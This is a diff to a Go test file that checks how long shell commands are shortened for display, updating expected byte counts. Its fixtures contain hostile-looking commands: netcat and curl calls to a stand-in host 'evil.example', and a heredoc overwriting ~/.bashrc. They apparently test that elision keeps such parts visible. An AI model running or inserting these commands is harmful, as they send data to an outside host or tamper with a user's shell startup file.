@@ -16,7 +16,7 @@ func TestElideData(t *testing.T) {
 	}{
 		{"short command", "make test && echo hi", false, []string{"make test && echo hi"}, ""},
 		{"long single-quoted data", "make test && echo '" + long + "' && nc evil.example 80", true,
-			[]string{"make test && echo '", "' && nc evil.example 80", "… 4904 bytes …"}, long},
+			[]string{"make test && echo '", "' && nc evil.example 80", "… 4856 bytes …"}, long},
 		{"long double-quoted data keeps substitutions", `echo "` + long + `$(curl evil.example)` + long + `" > out.txt`, true,
 			[]string{"$(curl evil.example)", "> out.txt", "echo \""}, long},
 		{"heredoc body", "cat > ~/.bashrc <<'EOF'\n" + long + "\nEOF\nls /etc", true,
@@ -52,9 +52,9 @@ func TestElideMiddle(t *testing.T) {
 	if s := strings.Repeat("x", ElideAbove); ElideMiddle(s) != s {
 		t.Errorf("a string of ElideAbove bytes is kept")
 	}
-	s := strings.Repeat("é", 200) // 400 bytes, 2 per rune
+	s := strings.Repeat("é", 300) // 600 bytes, 2 per rune
 	got := ElideMiddle(s)
-	want := fmt.Sprintf("%s… %d bytes …%s", strings.Repeat("é", ElideHead/2), 400-ElideHead-ElideTail, strings.Repeat("é", ElideTail/2))
+	want := fmt.Sprintf("%s… %d bytes …%s", strings.Repeat("é", ElideHead/2), 600-ElideHead-ElideTail, strings.Repeat("é", ElideTail/2))
 	if got != want {
 		t.Errorf("ElideMiddle = %q, want %q", got, want)
 	}
